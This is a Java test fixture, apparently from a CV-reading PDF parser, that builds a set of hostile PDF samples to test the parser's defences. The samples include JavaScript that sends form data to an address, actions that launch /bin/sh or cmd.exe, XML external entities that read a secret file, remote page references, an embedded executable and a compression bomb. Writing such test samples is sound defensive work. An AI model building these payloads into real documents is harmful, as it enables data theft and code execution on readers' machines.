package dev.shortlist.reader.hostile;

import static dev.shortlist.reader.Pdf.aPdf;
import static java.nio.charset.StandardCharsets.UTF_8;

import dev.shortlist.reader.Pdf;
import java.net.URI;
import java.util.List;

/// PDF that wants something done: scripts, programs, forms, files and addresses elsewhere.
final class HostilePdfActions {

    private HostilePdfActions() {}

    static List<HostileFile> pointingAt(URI address, URI secret) {
        return List.of(
                new HostileFile(
                        "pdf with scripts by name",
                        () -> opening("/Names<</JavaScript<</Names[(a)" + script(address) + "]>>>>")),
                new HostileFile("pdf that opens with a script", () -> opening("/OpenAction" + script(address))),
                new HostileFile(
                        "pdf that opens an address", () -> opening("/OpenAction<</S/URI/URI(" + address + ")>>")),
                new HostileFile(
                        "pdf that starts a program",
                        () -> opening("/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>")),
                new HostileFile(
                        "pdf that goes to another file", () -> opening("/OpenAction<</S/GoToR/F(" + secret + ")>>")),
                new HostileFile(
                        "pdf that sends its form", () -> opening("/AA<</WC<</S/SubmitForm/F(" + address + ")>>>>")),
                new HostileFile(
                        "pdf that imports data", () -> opening("/OpenAction<</S/ImportData/F(" + secret + ")>>")),
                new HostileFile("pdf with a form in XFA", () -> xfa(secret)),
                new HostileFile("pdf with metadata that has entities", () -> metadata(secret)),
                new HostileFile("pdf with its page in another file", () -> elsewhere(secret)),
                new HostileFile("pdf with a page at an address", () -> elsewhere(address)),
                new HostileFile("pdf with an attached file", HostilePdfActions::attached),
                new HostileFile(
                        "pdf with names in a circle",
                        () -> opening("/Names 3 0 R/Outlines 3 0 R/StructTreeRoot 3 0 R")),
                new HostileFile("pdf that refers to a page elsewhere", () -> referring(address)));
    }

    private static Pdf aCv() {
        return aPdf().text(50, 700, 9, "Ada");
    }

    private static byte[] opening(String entries) {
        return aCv().catalog(entries).bytes();
    }

    private static String script(URI address) {
        return "<</S/JavaScript/JS(app.launchURL('" + address + "'\\);this.submitForm('" + address + "'\\))>>";
    }

    private static byte[] xfa(URI target) {
        var pdf = aCv();
        int form = pdf.stream("", entity(target));
        return pdf.catalog("/AcroForm<</XFA " + form + " 0 R/Fields[]>>").bytes();
    }

    private static byte[] metadata(URI target) {
        var pdf = aCv();
        int metadata = pdf.stream("/Type/Metadata/Subtype/XML", entity(target));
        return pdf.catalog("/Metadata " + metadata + " 0 R").bytes();
    }

    private static byte[] entity(URI target) {
        return ("<!DOCTYPE x [<!ENTITY out SYSTEM '" + target + "'>]><x>&out;</x>").getBytes(UTF_8);
    }

    private static byte[] elsewhere(URI target) {
        return HostilePdfStreams.page("/F(" + target + ")/FFilter/FlateDecode", new byte[0]);
    }

    private static byte[] attached() {
        var pdf = aCv();
        int file = pdf.stream("/Type/EmbeddedFile/Filter/FlateDecode", Bombs.zlib(100, ' '));
        return pdf.catalog("/Names<</EmbeddedFiles<</Names[(a)<</F(a.exe)/EF<</F " + file + " 0 R>>>>]>>>>")
                .bytes();
    }

    private static byte[] referring(URI target) {
        var pdf = aCv();
        int form = pdf.stream(
                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(" + target + ")>>/Page 0>>", new byte[0]);
        return pdf.resources("/XObject<</X " + form + " 0 R>>").raw("/X Do").bytes();
    }
}
